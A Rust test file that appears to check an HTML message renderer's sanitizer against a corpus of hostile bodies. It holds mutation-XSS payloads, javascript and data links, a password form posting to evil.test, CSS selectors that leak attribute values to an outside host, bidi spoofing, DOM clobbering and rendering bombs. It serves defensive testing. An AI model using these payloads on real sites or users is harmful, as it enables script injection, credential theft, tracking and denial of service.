//! Hostile bodies of our own, beside those of the corpus: where that is not there,
//! these are tried all the same. Each is tried under every lock.

use e2e::corpus::{Case, html_case};

/// What a body tries, and how: more than one way may stand in one body, for none
/// must come to anything. `evil.test` is a host that listens, as every other is.
const BODIES: &[(&str, &str)] = &[
    (
        "namespaces-of-style-in-math",
        "<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),
    (
        "namespaces-integration-points",
        "<svg><foreignObject><math><annotation-xml encoding='text/html'><style><a title=\"</style><img src=x onerror=alert(1)>\">",
    ),
    (
        "raw-texts-that-end-early",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp><noembed><p title='</noembed><img src=x onerror=alert(2)>'></noembed>\
         <noframes><p title='</noframes><img src=x onerror=alert(3)>'></noframes><iframe><p title='</iframe><img src=x onerror=alert(4)>'></iframe>",
    ),
    (
        "noscript-with-and-without-scripts",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>\
         <noscript><style></noscript><img src=x onerror=alert(2)></style>",
    ),
    (
        "title-and-textarea",
        "<title><p title='</title><img src=x onerror=alert(1)>'></title>\
         <textarea><p title='</textarea><img src=x onerror=alert(2)>'></textarea>",
    ),
    (
        "plaintext-swallows-the-rest",
        "<table><plaintext><img src=x onerror=alert(1)></plaintext><script>alert(2)</script>",
    ),
    (
        "templates-and-shadow-roots",
        "<div><template shadowrootmode=open shadowrootserializable><style>:host{position:fixed;inset:0}</style>\
         <img src=http://evil.test/a onerror=alert(1)></template></div><template><img src=x onerror=alert(2)></template>",
    ),
    (
        "a-select-of-today",
        "<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=alert(1)>one</option></select>\
         <select><div><script>alert(2)</script></div><hr><option>x</select>",
    ),
    (
        "invokers-and-popovers",
        "<button commandfor=p command=show-popover autofocus>x</button><div id=p popover=auto onbeforetoggle=alert(1)>\
         <div popover open style='position:fixed;inset:0;z-index:9999'>x</div></div><a href='https://a.example/' interestfor=p>y</a>",
    ),
    (
        "found-in-the-page",
        "<div hidden=until-found onbeforematch=alert(1)>words</div><details name=a ontoggle=alert(2) open><summary>s</summary>d</details>",
    ),
    (
        "whatever-happens-by-itself",
        "<body onpageshow=alert(1) onresize=alert(2) onhashchange=alert(3)><marquee onstart=alert(4)>x</marquee>\
         <p style='animation:a 1s' onanimationstart=alert(5) oncontentvisibilityautostatechange=alert(6)>y</p>\
         <video oncanplay=alert(7)><source onerror=alert(8) src=x></video><input autofocus onfocus=alert(9)>",
    ),
    (
        "hints-to-fetch",
        "<link rel=prefetch href=http://evil.test/a><link rel=preload as=image href=http://evil.test/b>\
         <link rel=modulepreload href=http://evil.test/c><link rel=prerender href=http://evil.test/d>\
         <link rel=icon href=http://evil.test/f><link rel=manifest href=http://evil.test/g>\
         <link rel=alternate type=application/rss+xml href=http://evil.test/h>",
    ),
    (
        "hints-to-connect",
        "<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href=//evil.test><link rel=preconnect href=//evil.test>\
         <a href=http://prefetched.test/>x</a>",
    ),
    (
        "rules-of-speculation",
        "<script type=speculationrules>{\"prerender\":[{\"source\":\"list\",\"urls\":[\"http://evil.test/a\"]}]}</script>\
         <script type=importmap>{\"imports\":{\"a\":\"http://evil.test/b\"}}</script>",
    ),
    (
        "policies-of-the-message",
        "<meta http-equiv=content-security-policy content=\"default-src * 'unsafe-inline'\"><meta name=referrer content=unsafe-url>\
         <meta http-equiv=accept-ch content=sec-ch-ua-model><meta http-equiv=set-cookie content=a=b><meta http-equiv=default-style content=a>\
         <meta http-equiv=refresh content='0;url=javascript:alert(1)'><meta http-equiv=refresh content='0.1,http://evil.test/a'>",
    ),
    (
        "a-base-for-what-is-relative",
        "<base href=http://evil.test/ target=_top><img src=a><a href=b>x</a><form action=c><button>y</button></form>",
    ),
    (
        "pictures-in-every-way",
        "<img srcset='http://evil.test/a 1x, http://evil.test/b 2x' sizes=100vw><picture><source srcset=http://evil.test/c media='(min-width:1px)'><img></picture>\
         <img src=http:evil.test/d><img src='\thtt\np://evil.test/e'><img src=\\\\evil.test\\f><img src='///evil.test/g'><img lowsrc=http://evil.test/h>\
         <input type=image src=http://evil.test/i><image src=http://evil.test/j><video poster=http://evil.test/k></video><audio src=http://evil.test/l autoplay></audio>\
         <body background=http://evil.test/m><table background=http://evil.test/n><tr background=http://evil.test/o><td background=http://evil.test/p>x</table>",
    ),
    (
        "frames-and-plug-ins",
        "<iframe src=http://evil.test/a></iframe><iframe srcdoc='<script>top.alert(1)</script>'></iframe><frameset><frame src=http://evil.test/b></frameset>\
         <object data=http://evil.test/c><embed src=http://evil.test/d></object><applet code=a archive=http://evil.test/e></applet>\
         <fencedframe src=http://evil.test/f></fencedframe><portal src=http://evil.test/g></portal>",
    ),
    (
        "links-that-run",
        "<a id=a href='java\u{9}script:alert(1)'>1</a><a href='&#1;javascript:alert(2)'>2</a><a href='javascript&colon;alert(3)'>3</a>\
         <a href='data:text/html,<script>alert(4)</script>'>4</a><a href='vbscript:alert(5)'>5</a><a href=' \u{a0}javascript:alert(6)'>6</a>\
         <a href='blob:http://evil.test/x'>7</a><a href='filesystem:http://evil.test/x'>8</a><a href='x-javascript:alert(9)' ping=http://evil.test/a>9</a>",
    ),
    (
        "forms-that-lure",
        "<form action=http://evil.test/a method=post id=f><input name=password type=password autofocus autocomplete=current-password>\
         <button formaction=http://evil.test/b formtarget=_top>Log in</button></form><input form=f type=submit formaction=javascript:alert(1)>",
    ),
    (
        "names-that-clobber",
        "<form id=body><input name=parentNode><input name=ownerDocument><input name=children></form><img name=scrollingElement>\
         <a id=defaultView><a id=defaultView name=frameElement href=cid:x></a><object name=head></object><embed name=documentElement>",
    ),
    (
        "escapes-in-styles",
        "<p style='position:\\66 ixed;t\\6fp:0;lef\\000074:0;width:100vw;height:100vh;background:red;z-\\69ndex:99999'>x</p>\
         <p style='background:\\75\\72\\6c(http://evil.test/a)'>y</p><p style=\"background:u\\\nrl('http://evil.test/b')\">z</p>\
         <style>@\\69\\6dport 'http://evil.test/c';@import\\20 'http://evil.test/d';</style>",
    ),
    (
        "values-that-fetch",
        "<style>p{background:image-set('http://evil.test/a' 1x type('image/png'));background:-webkit-cross-fade(url(http://evil.test/b),url(http://evil.test/c),50%)}\
         p{background:src('http://evil.test/d');mask-image:image('http://evil.test/e',red);clip-path:url(http://evil.test/f#a);offset-path:url(http://evil.test/g#a)}\
         p{content:url(http://evil.test/h) / 'x';cursor:url(http://evil.test/i) 0 0,auto;border-image-source:url(http://evil.test/j);shape-outside:url(http://evil.test/k)}\
         p{filter:url(http://evil.test/l#a);backdrop-filter:url(http://evil.test/m#a);-webkit-box-reflect:below 0 url(http://evil.test/n)}</style><p>x</p>",
    ),
    (
        "values-put-together-late",
        "<style>@property --u{syntax:'<image>';inherits:true;initial-value:url(http://evil.test/a)}:root{--v:url(http://evil.test/b)}\
         p{background:var(--u);background:var(--v);background:if(style(--v):url(http://evil.test/c);else:none);background:attr(title type(<url>))}\
         @function --f(){result:url(http://evil.test/d)}p{background:--f()}</style><p title=http://evil.test/e>x</p>",
    ),
    (
        "rules-that-nest-and-ask",
        "<style>@container style(--a:1){p{background:url(http://evil.test/a)}}@scope (p) to (a){:scope{background:url(http://evil.test/b)}}\
         @layer a{p{background:url(http://evil.test/c)}}@starting-style{p{background:url(http://evil.test/d)}}@supports selector(a:has(b)){p{background:url(http://evil.test/e)}}\
         @counter-style a{symbols:url(http://evil.test/f)}@font-face{font-family:a;src:url(http://evil.test/g);unicode-range:U+41}\
         @view-transition{navigation:auto}@page{background:url(http://evil.test/h);@top-left{content:url(http://evil.test/i)}}p{font-family:a;& a{background:url(http://evil.test/j)}}</style><p>ABC</p>",
    ),
    (
        "selectors-that-tell",
        "<style>input[value^=a],[href*=token]{background:url(http://evil.test/a)}p:has(~ p){background:url(http://evil.test/b)}\
         ::selection{background:url(http://evil.test/c)}a:visited{background:url(http://evil.test/d)}html:not(#m-x){background:url(http://evil.test/e)}\
         :root:has(body:hover){background:url(http://evil.test/f)}::-webkit-scrollbar-thumb:horizontal{background:url(http://evil.test/g)}</style>\
         <input value=abc><a href=https://a.example/?token=1>x</a><p>y</p><p>z</p>",
    ),
    (
        "boxes-that-leave-their-place",
        "<div style='position:fixed;inset:0;background:red;z-index:2147483647'>1</div><div style='position:sticky;top:0;height:9000px'>2</div>\
         <div style='position:absolute;left:-9999px;top:-9999px'>3</div><div style='margin:-9999px 0 0 -9999px'>4</div>\
         <div style='transform:translate(-500px,-500px) scale(9)'>5</div><div style='translate:-500px;rotate:45deg;zoom:9'>6</div>\
         <div style='outline:9999px solid red;box-shadow:0 0 0 9999px blue;text-indent:-9999px'>7</div>\
         <div style='overlay:auto;view-transition-name:a;position-anchor:--a;top:anchor(top);position-area:top'>8</div>",
    ),
    (
        "sizes-without-end",
        "<div style='width:9999999px;height:9999999px'>1</div><img width=99999999 height=99999999><hr size=9999999 width=9999999>\
         <font size=99999>2</font><p style='font-size:99999px;line-height:99999;letter-spacing:99999px;padding:99999px'>3</p>\
         <table width=9999999 cellpadding=999999 border=999999><tr height=999999><td>4</table><ol start=-99999999999><li value=99999999999>5</ol>",
    ),
    (
        "an-own-height-that-follows-the-frames",
        "<style>@media (min-height:400px){p{height:100px}}@media (max-height:399px){p{height:900px}}</style><p style='min-height:calc(100vh + 1px);height:110%'>x</p>",
    ),
    (
        "words-turned-around",
        "<p>\u{202e}gpj.exe\u{202c} \u{2066}\u{2067}a\u{2069} <bdo dir=rtl>moc.live</bdo> <a href='https://evil.test/\u{202e}moc.knab'>https://bank.test\u{202e}/</a></p>\
         <p style='unicode-bidi:bidi-override;direction:rtl'>https://evil.test</p>",
    ),
    (
        "a-link-that-is-all-of-it",
        "<a href=https://evil.test/a target=_parent rel=opener><div style='position:absolute;inset:0'>&nbsp;</div><img src=x usemap=#m ismap></a>\
         <map name=m><area href=javascript:alert(1) coords=0,0,9999,9999 target=_top></map>",
    ),
    (
        "svg-in-every-way",
        "<svg><script>alert(1)</script><script href='data:,alert(2)'/><use href='data:image/svg+xml,<svg id=a onload=alert(3)>#a'/><image href=http://evil.test/a />\
         <feImage href=http://evil.test/b /><a href=javascript:alert(4)><text>x</text></a><set attributeName=href to=javascript:alert(5) /><animate onbegin=alert(6) attributeName=x dur=1s />\
         <foreignObject><iframe srcdoc='<script>top.alert(7)</script>'></foreignObject><style>@import url(http://evil.test/c)</style></svg>\
         <img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"http://evil.test/d\"/></svg>'>",
    ),
    (
        "mathml-that-leads-away",
        "<math href=javascript:alert(1)><mi xlink:href='http://evil.test/a'>x</mi><maction actiontype='statusline#http://evil.test' xlink:href=javascript:alert(2)>y</maction>\
         <semantics><annotation-xml encoding='application/xhtml+xml'><script>alert(3)</script></annotation-xml></semantics></math>",
    ),
    (
        "foreign-declarations",
        "<?xml-stylesheet href='http://evil.test/a'?><!DOCTYPE html [<!ENTITY x SYSTEM 'http://evil.test/b'>]><![CDATA[<img src=x onerror=alert(1)>]]>\
         <!--[if gte mso 9]><img src=http://evil.test/c onerror=alert(2)><![endif]--><!--><img src=x onerror=alert(3)>--!><img src=x onerror=alert(4)>-->",
    ),
    (
        "attributes-that-break-off",
        "<img src=\"x\" alt=\"`><img src=x onerror=alert(1)>\"><img/src='x'/onerror='alert(2)'><img \u{0}src=x onerror\u{c}=alert(3)><p title='\"onmouseover=alert(4) \"'>x</p>\
         <a href=\"https://a.example/\u{2028}'onclick=alert(5)//\">y</a><img src=x onerror=&#x61;lert(6)><IMG SRC=x ONERROR=alert(7)//",
    ),
];

/// Bodies that are to keep a browser busy. Each is shown within two seconds, or its
/// text instead, and the page answers meanwhile.
fn bombs() -> Vec<(&'static str, String)> {
    let within = |times: usize, open: &str, close: &str| {
        format!("{}x{}", open.repeat(times), close.repeat(times))
    };
    let shadows = |one: &str, times: usize| vec![one; times].join(",");
    let text = "many words ".repeat(4_000);
    vec![
        (
            "bomb-shadows",
            format!(
                "<style>p{{text-shadow:{}}}</style><p>{text}</p>",
                shadows("1px 1px 31px red", 4_000)
            ),
        ),
        (
            "bomb-box-shadows",
            format!(
                "<style>div{{width:900px;height:90px;box-shadow:{}}}</style>{}",
                shadows("1px 1px 31px 31px red", 4_000),
                "<div>x</div>".repeat(400)
            ),
        ),
        (
            "bomb-gradients",
            format!(
                "<style>div{{width:2000px;height:9000px;background:{}}}</style><div>x</div>",
                shadows("repeating-radial-gradient(red,blue .01px)", 4_000)
            ),
        ),
        (
            "bomb-tiles",
            "<div style='width:20000px;height:20000px;background:linear-gradient(red,blue);background-size:.01px .01px'>x</div>".repeat(20),
        ),
        (
            "bomb-columns",
            within(60, "<div style='column-count:20000;column-gap:0'>", "</div>"),
        ),
        (
            "bomb-boxes-that-flex",
            within(
                250,
                "<div style='display:flex;height:100%'><div style='flex:1 1 auto;height:100%;overflow:auto'>",
                "</div></div>",
            ),
        ),
        (
            "bomb-boxes-that-flex-shallow",
            within(
                120,
                "<div style='display:flex;flex-direction:column;min-height:min-content;height:100%'>y<div style='display:inline-flex;flex:1;height:100%;min-width:max-content'>",
                "</div></div>",
            ),
        ),
        (
            "bomb-directions",
            within(
                120,
                "<div style='writing-mode:vertical-rl;display:inline-block'><div style='writing-mode:horizontal-tb;display:inline-block'>",
                "</div></div>",
            ),
        ),
        (
            "bomb-tables",
            within(60, "<table height=100% width=100%><tr><td height=100%>", "</td></tr></table>"),
        ),
        (
            "bomb-cells",
            format!("<table>{}</table>", format!("<tr>{}</tr>", "<td rowspan=1000 colspan=1000>x".repeat(40)).repeat(400)),
        ),
        (
            "bomb-column-spans",
            format!("<table border=1><tr>{}</table>", "<td colspan=1000>x".repeat(20_000)),
        ),
        ("bomb-cells-in-a-row", format!("<table border=1 style='border-collapse:collapse'><tr>{}</table>", "<td>x".repeat(4_000))),
        ("bomb-long-row", format!("<table border=1 style='border-collapse:collapse'><tr>{}</table>", "<td>x".repeat(24_000))),
        (
            "bomb-wide-and-long",
            format!("<table border=1 style='border-collapse:collapse'><tr>{}{}</table>", "<td>x".repeat(40), "<tr><td>x".repeat(3_700)),
        ),
        (
            "bomb-row-spans",
            format!("<table border=1 style='border-collapse:collapse'>{}</table>", "<tr><td rowspan=1000>x".repeat(149)),
        ),
        ("bomb-rows-that-never-end", format!("<table border=1>{}</table>", "<tr><td rowspan=0>x".repeat(12_000))),
        ("bomb-columns-named", format!("<table>{}<tr><td>x</table>", "<col span=1000>".repeat(20_000))),
        (
            "bomb-spans-of-many-tables",
            format!("<table border=1 style='border-collapse:collapse'><tr>{}</table>", "<td colspan=100>x".repeat(10)).repeat(149),
        ),
        (
            "bomb-cells-of-styles",
            format!(
                "<style>b{{display:table-cell;border:1px solid}}</style><div style='display:table;border-collapse:collapse'>{}</div>",
                "<b>x</b>".repeat(4_000)
            ),
        ),
        (
            "bomb-marks",
            format!("<p>a{}</p>", "\u{301}".repeat(200_000)),
        ),
        (
            "bomb-turns",
            format!("<p>{}</p>", "\u{202b}a\u{202c}1 \u{5d0} ".repeat(20_000)),
        ),
        ("bomb-turning-letters", format!("<p>{}</p>", "a\u{5d0}".repeat(150_000))),
        ("bomb-turning-words", format!("<p>{}</p>", "a \u{5d0} ".repeat(19_000))),
        ("bomb-turning-numbers", format!("<p dir=rtl>{}</p>", "\u{5d0}\u{5d1} 12 ".repeat(100_000))),
        ("bomb-turning-scripts", format!("<p>{}</p>", "a\u{3b1}".repeat(39_000))),
        ("bomb-isolates", format!("<p>{}</p>", "\u{2068}a\u{2069}1".repeat(60_000))),
        ("bomb-turns-within", format!("<p>{}</p>", format!("{}a{}", "\u{2067}\u{2066}".repeat(60), "\u{2069}".repeat(120)).repeat(700))),
        (
            "bomb-overrides",
            format!("<p>{}</p>", "<bdo dir=rtl>ab</bdo>\u{5d0}<bdi>1</bdi>".repeat(2_600)),
        ),
        (
            "bomb-styles-that-turn",
            format!(
                "<style>b{{unicode-bidi:isolate-override;direction:rtl}}i{{unicode-bidi:plaintext}}</style><p>{}</p>",
                "<b>ab\u{5d0}</b><i>x\u{5d0}</i>".repeat(2_400)
            ),
        ),
        (
            "bomb-lines-that-turn",
            format!("<pre style='unicode-bidi:plaintext'>{}</pre>", "a\u{5d0}\n\u{5d0}a\n".repeat(60_000)),
        ),
        (
            "bomb-blocks-in-a-line",
            format!("<style>p{{display:inline}}</style>{}", "<p>a \u{5d0} a \u{5d0}".repeat(6_600)),
        ),
        (
            "bomb-directions-of-their-own",
            within(120, "<div dir=auto>", "</div>").replace('x', &"<span dir=auto>1</span>".repeat(6_500)),
        ),
        (
            "bomb-joined",
            format!("<p style='font-size:40px'>{}</p>", "\u{1f468}\u{200d}".repeat(100_000)),
        ),
        (
            "bomb-layers",
            "<i style='opacity:.5;display:inline-block'>x</i>".repeat(9_000),
        ),
        (
            "bomb-layers-within",
            within(250, "<div style='opacity:.9;overflow:hidden;border-radius:9px'>", "</div>"),
        ),
        (
            "bomb-floats",
            "<b style='float:left;width:3.3%;height:7px'>x</b><b style='float:right;width:3.1%'>y</b>".repeat(12_000),
        ),
        (
            "bomb-selectors",
            format!(
                "<style>{}</style>{}",
                (0..3_900).map(|n| format!(".a *~* *~* *+.b{n}{{color:red}}")).collect::<String>(),
                "<div class='a b1 b2'><p class='b7 b8'>x</p></div>".repeat(9_000)
            ),
        ),
        ("bomb-plain-line", format!("<pre>{}</pre>", "W".repeat(3_000_000))),
        ("bomb-inline-boxes", format!("<p>{}</p>", "<b style='padding:1px;border:1px solid red;position:relative'>ab</b>".repeat(20_000))),
        ("bomb-rubies", within(120, "<ruby>a<rt>", "</rt></ruby>")),
        ("bomb-fit", within(120, "<div style='width:fit-content;float:left'><div style='width:min-content;display:table'>", "</div></div>")),
    ]
}

/// Plain texts that are to keep a browser busy: nothing is left out of them.
pub(crate) fn heavy_texts() -> Vec<(&'static str, String)> {
    vec![
        ("text-bomb-turning-letters", "a\u{5d0}".repeat(500_000)),
        ("text-bomb-turning-words", "a \u{5d0} ".repeat(250_000)),
        ("text-bomb-turning-lines", "a\u{5d0}\n".repeat(250_000)),
        ("text-bomb-scripts", "a\u{3b1}".repeat(500_000)),
        ("text-bomb-one-line", "W".repeat(3_000_000)),
        ("text-bomb-lines", "\n".repeat(1_000_000)),
        ("text-bomb-quotes", "> a\n>> b\n".repeat(20_000)),
    ]
}

/// Those that try something, as messages that name them.
pub(crate) fn bodies() -> Vec<Case> {
    let bodies = BODIES.iter();
    bodies.map(|(name, html)| html_case(name, html)).collect()
}

/// Those that are to keep a browser busy.
pub(crate) fn heavy_bodies() -> Vec<Case> {
    let bombs = bombs();
    let bombs = bombs.iter();
    bombs.map(|(name, html)| html_case(name, html)).collect()
}
